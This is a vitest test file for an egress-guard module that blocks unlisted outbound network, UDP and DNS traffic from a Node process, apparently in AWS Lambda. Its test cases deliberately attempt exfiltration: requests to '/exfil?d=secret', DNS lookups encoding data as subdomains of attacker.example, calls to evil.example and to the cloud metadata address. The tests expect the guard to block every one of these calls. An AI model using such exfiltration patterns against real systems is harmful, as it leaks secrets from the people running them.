import dgram from 'node:dgram';
import dns from 'node:dns';
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import tls from 'node:tls';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startHttpServer, type TestServer } from '../../test/helpers/http-server.js';
import { captureLogger } from '../../test/helpers/lambda.js';
import { EgressBlockedError } from './errors.js';
import { installEgressGuard, uninstallEgressGuard } from './install.js';

let allowedServer: TestServer;
let blockedServer: TestServer;
beforeAll(async () => {
  allowedServer = await startHttpServer((_req, res) => { res.end('allowed'); });
  blockedServer = await startHttpServer((_req, res) => { res.end('should never be reached'); });
});
afterAll(async () => {
  await allowedServer.close();
  await blockedServer.close();
});
afterEach(() => uninstallEgressGuard());

function guard(mode: 'block' | 'alert' = 'block') {
  const { logger, events } = captureLogger();
  installEgressGuard({ allow: [`127.0.0.1:${allowedServer.port}`, '*.amazonaws.com'], mode, logger });
  return events;
}

function get(url: string): Promise<string> {
  return new Promise((resolve, reject) => {
    http.get(url, (res) => {
      let body = '';
      res.on('data', (c: Buffer) => { body += c.toString(); });
      res.on('end', () => resolve(body));
    }).on('error', reject);
  });
}

describe('egress guard: block mode', () => {
  it('lets allowed destinations through with every client', async () => {
    guard();
    expect(await get(`${allowedServer.url}/`)).toBe('allowed');
    expect(await (await fetch(`${allowedServer.url}/`)).text()).toBe('allowed');
    await new Promise<void>((resolve, reject) => {
      const socket = net.connect(allowedServer.port, '127.0.0.1', () => { socket.destroy(); resolve(); });
      socket.on('error', reject);
    });
  });

  it('blocks fetch to a host that is not listed, before any connection', async () => {
    const events = guard();
    const before = blockedServer.requests.length;
    await expect(fetch(`${blockedServer.url}/exfil?d=secret`)).rejects.toMatchObject({ code: 'EGRESS_BLOCKED', category: 'network', via: 'fetch' });
    expect(blockedServer.requests.length).toBe(before);
    expect(events).toEqual([expect.objectContaining({ type: 'egress.blocked', host: '127.0.0.1', port: blockedServer.port, via: 'fetch' })]);
    expect(JSON.stringify(events)).not.toContain('secret');
  });

  it('blocks fetch through a reference captured before installation (socket-level hook)', async () => {
    const captured = globalThis.fetch;
    guard();
    const error = await captured(`${blockedServer.url}/`).then(() => undefined, (e: unknown) => e as { cause?: unknown });
    expect(error?.cause).toBeInstanceOf(EgressBlockedError);
  });

  it('blocks http.request, http.get and https.request synchronously with EGRESS_BLOCKED', () => {
    guard();
    expect(() => http.request(`${blockedServer.url}/`)).toThrow(EgressBlockedError);
    expect(() => http.get({ host: '127.0.0.1', port: blockedServer.port, path: '/' })).toThrow(expect.objectContaining({ code: 'EGRESS_BLOCKED' }));
    expect(() => https.request('https://evil.example/')).toThrow(expect.objectContaining({ code: 'EGRESS_BLOCKED', target: 'evil.example:443' }));
    expect(() => http.request(new URL(`${allowedServer.url}/`), { host: 'evil.example' })).toThrow(EgressBlockedError);
  });

  it('blocks raw sockets: net.connect, net.createConnection, new Socket().connect, tls.connect', () => {
    guard();
    expect(() => net.connect(blockedServer.port, '127.0.0.1')).toThrow(EgressBlockedError);
    expect(() => net.createConnection({ host: '127.0.0.1', port: blockedServer.port })).toThrow(EgressBlockedError);
    expect(() => new net.Socket().connect({ host: '169.254.169.254', port: 80 })).toThrow(EgressBlockedError);
    expect(() => tls.connect({ host: 'evil.example', port: 443 })).toThrow(EgressBlockedError);
    expect(() => tls.connect(443, 'evil.example')).toThrow(EgressBlockedError);
  });

  it('blocks UDP datagrams and UDP connect to hosts outside the list', () => {
    guard();
    const socket = dgram.createSocket('udp4');
    try {
      expect(() => socket.send('exfil', 53, '198.51.100.53')).toThrow(expect.objectContaining({ code: 'EGRESS_BLOCKED', via: 'dgram.send' }));
      expect(() => socket.send(Buffer.from('exfil'), 0, 5, 53, '198.51.100.53')).toThrow(EgressBlockedError);
      expect(() => socket.connect(53, '198.51.100.53')).toThrow(EgressBlockedError);
    } finally {
      socket.close();
    }
  });

  it('blocks DNS lookups and queries for names outside the list (DNS exfiltration)', async () => {
    guard();
    expect(() => dns.lookup('c2VjcmV0.attacker.example', () => undefined)).toThrow(EgressBlockedError);
    await expect(Promise.resolve().then(() => dns.promises.lookup('attacker.example'))).rejects.toMatchObject({ code: 'EGRESS_BLOCKED' });
    expect(() => dns.resolveTxt('attacker.example', () => undefined)).toThrow(EgressBlockedError);
  });

  it('matches wildcard names without matching the bare suffix', () => {
    guard();
    // allowed names get past the guard (the request itself then fails on DNS, asynchronously)
    const ok = https.request('https://sqs.eu-west-1.amazonaws.com/');
    ok.on('error', () => undefined);
    ok.destroy();
    expect(() => https.request('https://amazonaws.com/')).toThrow(EgressBlockedError);
    expect(() => https.request('https://amazonaws.com.evil.example/')).toThrow(EgressBlockedError);
  });

  it('always allows the Lambda Runtime API unless told otherwise', () => {
    const saved = process.env.AWS_LAMBDA_RUNTIME_API;
    process.env.AWS_LAMBDA_RUNTIME_API = `127.0.0.1:${blockedServer.port}`;
    try {
      installEgressGuard({ allow: [], logger: captureLogger().logger });
      const req = http.request(`${blockedServer.url}/2018-06-01/runtime/invocation/next`);
      req.on('error', () => undefined);
      req.destroy();
      installEgressGuard({ allow: [], allowRuntimeApi: false, logger: captureLogger().logger });
      expect(() => http.request(`${blockedServer.url}/`)).toThrow(EgressBlockedError);
    } finally {
      if (saved === undefined) delete process.env.AWS_LAMBDA_RUNTIME_API;
      else process.env.AWS_LAMBDA_RUNTIME_API = saved;
    }
  });
});

describe('egress guard: alert mode', () => {
  it('lets the request through and logs one egress.alert for it', async () => {
    const events = guard('alert');
    expect(await (await fetch(`${blockedServer.url}/`)).text()).toBe('should never be reached');
    expect(events).toHaveLength(1); // fetch, net.connect and Socket.connect all saw it; reported once
    expect(events[0]).toMatchObject({ type: 'egress.alert', category: 'network', host: '127.0.0.1', mode: 'alert' });
  });
});

describe('egress guard: lifecycle', () => {
  it('is idempotent and uninstall restores the original functions', () => {
    const originals = { fetch: globalThis.fetch, connect: net.Socket.prototype.connect, request: http.request, lookup: dns.lookup };
    installEgressGuard({ allow: [] });
    const patched = net.Socket.prototype.connect;
    installEgressGuard({ allow: ['127.0.0.1'] });
    expect(net.Socket.prototype.connect).toBe(patched); // not wrapped twice
    uninstallEgressGuard();
    expect({ fetch: globalThis.fetch, connect: net.Socket.prototype.connect, request: http.request, lookup: dns.lookup }).toEqual(originals);
  });

  it('the latest configuration wins', () => {
    installEgressGuard({ allow: [], logger: captureLogger().logger });
    expect(() => http.request(`${allowedServer.url}/`)).toThrow(EgressBlockedError);
    installEgressGuard({ allow: ['127.0.0.1'] });
    const req = http.request(`${allowedServer.url}/`);
    req.on('error', () => undefined);
    req.destroy();
  });

  it('rejects bad configuration before patching anything', () => {
    const connect = net.Socket.prototype.connect;
    expect(() => installEgressGuard({ allow: ['*'] })).toThrow(TypeError);
    expect(() => installEgressGuard({})).toThrow(TypeError);
    expect(() => installEgressGuard({ allow: [], mode: 'warn' as never })).toThrow(TypeError);
    expect(net.Socket.prototype.connect).toBe(connect);
  });
});
